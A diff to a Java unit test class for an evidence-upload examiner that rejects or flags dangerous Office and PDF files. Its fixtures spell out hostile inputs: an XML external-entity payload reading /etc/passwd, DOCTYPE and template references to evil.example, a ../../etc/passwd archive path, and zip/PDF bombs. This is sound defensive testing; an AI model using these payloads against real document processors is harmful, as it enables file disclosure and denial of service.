@@ -8,6 +8,7 @@ import static org.junit.jupiter.params.provider.Arguments.arguments;
 
 import bihuan.Refusal;
 import bihuan.evidence.cleaning.FileFormat;
+import bihuan.evidence.cleaning.Impurity;
 import java.io.IOException;
 import java.io.InputStream;
 import java.nio.ByteBuffer;
@@ -122,6 +123,18 @@ class ExaminationTest {
                         OfficeFiles.external(
                             "rId1", "attachedTemplate", "https://evil.example/a.dotm")))),
             "evidence.embedded"),
+        arguments(
+            "entity.docx",
+            word(
+                "word/footnotes.xml",
+                text(
+                    "<?xml version='1.0'?><!-- --><!DOCTYPE x [<!ENTITY e SYSTEM"
+                        + " 'file:///etc/passwd'>]><x>&e;</x>")),
+            "evidence.entities"),
+        arguments(
+            "entity.vml.docx",
+            word("word/drawing.vml", text("<!DOCTYPE x SYSTEM 'http://evil.example/x'><x/>")),
+            "evidence.entities"),
         arguments("astray.docx", word("../../etc/passwd", text("x")), "evidence.broken"),
         arguments("bomb.docx", word("word/zeros.xml", new byte[64 << 20]), "evidence.bomb"),
         arguments("bomb.pdf", pdfBomb(), "evidence.bomb"));
@@ -152,10 +165,10 @@ class ExaminationTest {
 
   @Test
   void theSameContentIsStoredOnce() {
-    var first = examination.of(upload("a.png", Pictures.png()));
+    var first = examination.of(upload("a.doc", OfficeFiles.doc()));
     var stored = filesLeft().size();
 
-    assertThat(examination.of(upload("b.png", Pictures.png()))).isEqualTo(first);
+    assertThat(examination.of(upload("b.doc", OfficeFiles.doc()))).isEqualTo(first);
     assertThat(filesLeft()).hasSize(stored);
   }
 
@@ -175,6 +188,35 @@ class ExaminationTest {
   @Test
   void anOldOfficeFileHasNoCleanedCopy() {
     assertThat(examination.of(upload("a.doc", OfficeFiles.doc())).clean()).isNull();
+  }
+
+  @ParameterizedTest
+  @MethodSource("kept")
+  void whatCannotBeCleanedIsKeptAndSaysWhy(byte[] content, String name, Impurity impurity) {
+    var stored = examination.of(upload(name, content));
+
+    assertThat(stored.impurity()).isEqualTo(impurity);
+    assertThat(stored.clean() == null).isEqualTo(impurity != null);
+  }
+
+  static Stream<Arguments> kept() throws IOException {
+    return Stream.of(
+        arguments(OfficeFiles.docx(), "a.docx", null),
+        arguments(Pictures.jpeg(), "a.jpg", null),
+        arguments(OfficeFiles.doc(), "a.doc", Impurity.OLD_OFFICE),
+        arguments(OfficeFiles.docxWith("image9.emf", text("\1\0\0\0")), "a.docx", Impurity.DRAWING),
+        arguments(OfficeFiles.docxWith("image9.wmf", text("\u00d7")), "a.docx", Impurity.DRAWING),
+        arguments(OfficeFiles.docxWith("image9.svg", text("<svg/>")), "a.docx", Impurity.DRAWING),
+        arguments(OfficeFiles.docxWith("image9.png", text("no PNG")), "a.docx", Impurity.DRAWING),
+        arguments(
+            word("word/document.xml", text("<d><w:OLEObject xmlns:w='w'/></d>")),
+            "a.docx",
+            Impurity.OBJECT),
+        arguments(
+            word("word/header1.xml", text("<h><w:instrText xmlns:w='w'>AUTHOR</w:instrText></h>")),
+            "a.docx",
+            Impurity.HIDDEN),
+        arguments(Pdfs.pdfInLayers(false), "a.pdf", Impurity.HIDDEN));
   }
 
   @Test
